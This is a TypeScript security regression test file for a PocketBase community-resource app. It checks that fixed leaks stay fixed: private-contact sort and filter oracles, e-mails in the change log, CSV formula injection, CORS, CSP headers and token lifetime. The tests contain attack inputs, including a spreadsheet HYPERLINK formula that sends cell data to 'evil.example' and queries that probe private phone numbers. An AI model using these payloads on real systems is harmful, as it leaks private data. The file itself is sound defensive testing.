/**
 * The holes of issue #15 that read or leak (see security-holes.test.ts for the writes): the
 * private-relation sort/filter/expand oracle (REST and realtime), e-mails in change-log
 * entries, formula injection in the open-data CSV, CORS `*`, missing security headers and
 * 5-day tokens — each probed as an attacker would against a real PocketBase with the demo
 * city, and each refused (every test here failed on the code before the fix).
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { exportCommand } from '../../src/cli/commands/export';
import { type ApiClient, gatewayAs } from './api';
import { runCliJson } from './run-cli';
import {
  admin,
  anon,
  careManager,
  coord,
  recordsAsSuperuser as all,
  server,
  su,
  useStaffServer,
  type Rec,
} from './staff-server';

let publicPlace: Rec;

useStaffServer({ rateLimits: false });

beforeAll(async () => {
  publicPlace = (await all('resources', 'is_public = true && status = "active"'))[0]!;
});

describe('no sort, filter or expand through what the caller may not read', () => {
  /** The status of listing resources with `query` as client `c`. */
  const statusOf = async (c: ApiClient, query: string): Promise<number> =>
    (await c.get(`/api/collections/resources/records?perPage=5&${query}`)).status;

  it('anonymous: the private-contact sort oracle and its filter/expand variants are refused', async () => {
    for (const query of [
      'sort=resource_contacts_via_resource.direct_phone',
      'sort=-resource_contacts_via_resource.person_in_charge',
      `filter=${encodeURIComponent('resource_contacts_via_resource.direct_phone != ""')}`,
      `filter=${encodeURIComponent('resource_contacts_via_resource.id ?= ""')}`,
      `filter=${encodeURIComponent('@collection.resource_contacts.resource ?= id')}`,
      `filter=${encodeURIComponent('suggestions_via_resource.message ~ "a"')}`,
      `filter=${encodeURIComponent('verified_by.name ~ "a"')}`,
      `filter=${encodeURIComponent("// it's a comment\nresource_contacts_via_resource.direct_phone != ''")}`,
      `filter=${encodeURIComponent('name != "http://x" && resource_contacts_via_resource.direct_phone != ""')}`,
      `filter=${encodeURIComponent('name != "a\\"b" && resource_contacts_via_resource.direct_phone != ""')}`,
      'expand=resource_contacts_via_resource',
      'expand=verified_by',
    ]) {
      expect(await statusOf(anon, query), query).toBe(400);
    }
    const head = await fetch(
      `${server.url}/api/collections/resources/records?sort=resource_contacts_via_resource.direct_phone`,
      { method: 'HEAD' },
    );
    expect(head.status).toBe(400);
    // what the public may read still works
    expect(
      await statusOf(
        anon,
        `filter=${encodeURIComponent('district.name != "" && organization.name != "x"')}&sort=district.name&expand=organization`,
      ),
    ).toBe(200);
    expect(
      await statusOf(
        anon,
        `filter=${encodeURIComponent('name = "resource_contacts_via_resource.direct_phone"')}`,
      ),
    ).toBe(200);
  });

  it('a care manager may sort by contacts (they read them all) but not through suggestions', async () => {
    expect(await statusOf(careManager, 'sort=resource_contacts_via_resource.direct_phone')).toBe(
      200,
    );
    expect(
      await statusOf(
        careManager,
        `filter=${encodeURIComponent('suggestions_via_resource.message ~ "a"')}`,
      ),
    ).toBe(400);
    expect(await statusOf(coord, 'expand=suggestions_via_resource')).toBe(400);
  });

  it('anonymous realtime subscriptions through a private relation are refused', async () => {
    const controller = new AbortController();
    const stream = await fetch(`${server.url}/api/realtime`, { signal: controller.signal });
    const reader = stream.body!.getReader();
    let text = '';
    while (!/"clientId":"[^"]+"/.test(text))
      text += new TextDecoder().decode((await reader.read()).value);
    const clientId = /"clientId":"([^"]+)"/.exec(text)![1];
    const subscribe = (topic: string) =>
      fetch(`${server.url}/api/realtime`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ clientId, subscriptions: [topic] }),
      });
    const options = (query: Record<string, string>) =>
      `?options=${encodeURIComponent(JSON.stringify({ query }))}`;
    expect(
      (
        await subscribe(
          `resources${options({ filter: 'resource_contacts_via_resource.direct_phone ~ "090"' })}`,
        )
      ).status,
    ).toBe(400);
    expect(
      (await subscribe(`resources/*${options({ expand: 'resource_contacts_via_resource' })}`))
        .status,
    ).toBe(400);
    expect((await subscribe(`resources${options({ filter: 'district.name != ""' })}`)).status).toBe(
      204,
    );
    controller.abort();
  });
});

describe('the change log never holds an e-mail address', () => {
  it('creating and renaming a user logs neither its e-mail nor the admin’s', async () => {
    const created = await admin.post<Rec>('/api/collections/users/records', {
      email: 'new.staff@example.com',
      emailVisibility: false,
      password: 'a-long-password-1',
      passwordConfirm: 'a-long-password-1',
      name: '新しい職員',
      role: 'care_manager',
    });
    expect(created.status).toBe(200);
    expect(
      (
        await admin.patch(`/api/collections/users/records/${created.body.id}`, {
          name: '改名した職員',
          email: 'renamed.staff@example.com',
        })
      ).status,
    ).toBe(200);
    const entries = await all('change_log', `record_id = "${created.body.id}"`);
    expect(entries.map((e) => e.action).sort()).toEqual(['create', 'update']);
    const text = JSON.stringify(entries);
    expect(text).not.toContain('@example.com');
    expect(text).not.toMatch(/"(email|password|tokenKey|passwordConfirm)"/);
    expect(text).toContain('改名した職員');
  });
});

describe('the open-data CSV defuses spreadsheet formulas', () => {
  it('a place named =HYPERLINK(...) is exported as text', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"詳しく")';
    expect(
      (
        await admin.patch(`/api/collections/resources/records/${publicPlace.id}`, {
          name: evil,
          description: '@SUM(1+1)',
        })
      ).status,
    ).toBe(200);
    const dir = mkdtempSync(join(tmpdir(), 'sasaeai-csv-'));
    try {
      const { code } = await runCliJson(exportCommand, [
        '--format',
        'csv',
        '--url',
        server.url,
        '--out',
        join(dir, 'p.csv'),
        '--json',
      ]);
      expect(code).toBe(0);
      const csv = readFileSync(join(dir, 'p.csv'), 'utf8');
      const line = csv.split('\r\n').find((l) => l.includes(publicPlace.id)) ?? '';
      expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""詳しく"")",`);
      expect(line).toContain(`,'@SUM(1+1)`);
      expect(csv).not.toMatch(/(^|,)"?[=@]/m);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('headers and sessions', () => {
  it('the API does not answer other origins with CORS headers', async () => {
    const res = await fetch(`${server.url}/api/collections/resources/records?perPage=1`, {
      headers: { Origin: 'https://evil.example' },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('access-control-allow-origin')).toBeNull();
    const preflight = await fetch(`${server.url}/api/collections/suggestions/records`, {
      method: 'OPTIONS',
      headers: { Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST' },
    });
    expect(preflight.headers.get('access-control-allow-origin')).toBeNull();
  });

  it('pages and API answers carry a strict CSP; the admin UI keeps its own', async () => {
    for (const path of ['/', '/map', '/api/health']) {
      const res = await fetch(server.url + path);
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, path).toContain("default-src 'self'");
      expect(csp, path).toMatch(/script-src 'self'( 'sha256-[A-Za-z0-9+/=]+')*;/);
      expect(csp, path).not.toContain('unsafe-eval');
      expect(csp, path).toContain("frame-ancestors 'self'");
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
      expect(res.headers.get('permissions-policy')).toContain('camera=()');
    }
    const adminUi = await fetch(`${server.url}/_/`);
    expect(adminUi.status).toBe(200);
    expect(adminUi.headers.get('content-security-policy')).toContain(
      "script-src 'self' http://127.0.0.1:*",
    );
  });

  it('only the embeddable views (/embed/) may be framed by other sites', async () => {
    const district = (await all('areas')).find((a) => a.kind === 'district')!;
    // Headers only: the integration project does not build the web app, so the page itself may
    // be missing here (404); the policy is the same either way.
    const embed = await fetch(
      `${server.url}/embed/districts/${district.id as string}?kinds=gathering_place`,
    );
    const csp = embed.headers.get('content-security-policy') ?? '';
    expect(csp).toContain('frame-ancestors *');
    expect(csp).toContain("default-src 'self'");
    for (const path of ['/', '/embedded', `/districts/${district.id as string}`, '/admin/users']) {
      expect(
        (await fetch(server.url + path)).headers.get('content-security-policy'),
        path,
      ).toContain("frame-ancestors 'self'");
    }
  });

  it('the CSP allows the GSI tile origin only when the site chooses the GSI basemap', async () => {
    const csp = async () =>
      (await fetch(`${server.url}/map`)).headers.get('content-security-policy') ?? '';
    expect(await csp()).not.toContain('cyberjapandata.gsi.go.jp');
    // the site's `basemap` field (added by another change) is read when it exists
    const collection = (await su.get<{ fields: unknown[] }>('/api/collections/site')).body;
    const fields = [
      ...collection.fields,
      { type: 'select', name: 'basemap', values: ['none', 'gsi', 'pmtiles'], maxSelect: 1 },
    ];
    expect((await su.patch('/api/collections/site', { fields })).status).toBe(200);
    const site = (await all('site'))[0]!;
    expect(
      (await su.patch(`/api/collections/site/records/${site.id}`, { basemap: 'gsi' })).status,
    ).toBe(200);
    expect(await csp()).toMatch(/img-src [^;]*https:\/\/cyberjapandata\.gsi\.go\.jp/);
    expect(await csp()).toMatch(/connect-src [^;]*https:\/\/cyberjapandata\.gsi\.go\.jp/);
    expect(
      (await su.patch(`/api/collections/site/records/${site.id}`, { basemap: 'none' })).status,
    ).toBe(200);
    expect(await csp()).not.toContain('cyberjapandata.gsi.go.jp');
  });

  it('a staff session token lives 2 hours, and refreshing gives a new one', async () => {
    const claims = JSON.parse(Buffer.from(coord.token.split('.')[1]!, 'base64url').toString()) as {
      exp: number;
      iat?: number;
    };
    const lifetimeS = claims.exp - Math.floor(Date.now() / 1000);
    expect(lifetimeS).toBeGreaterThan(2 * 3600 - 120);
    expect(lifetimeS).toBeLessThanOrEqual(2 * 3600);
    expect((await coord.post('/api/collections/users/auth-refresh', {})).status).toBe(200);
    // the app's gateway refreshes the same way (the session state calls it while the user is active)
    const gateway = await gatewayAs(server.url, 'coordinator@example.com');
    expect(gateway.sessionSecondsLeft()).toBeGreaterThan(2 * 3600 - 120);
    await gateway.refreshSession();
    expect(gateway.user?.id).toBe(coord.record.id);
    expect(gateway.sessionSecondsLeft()).toBeGreaterThan(2 * 3600 - 120);
  });
});
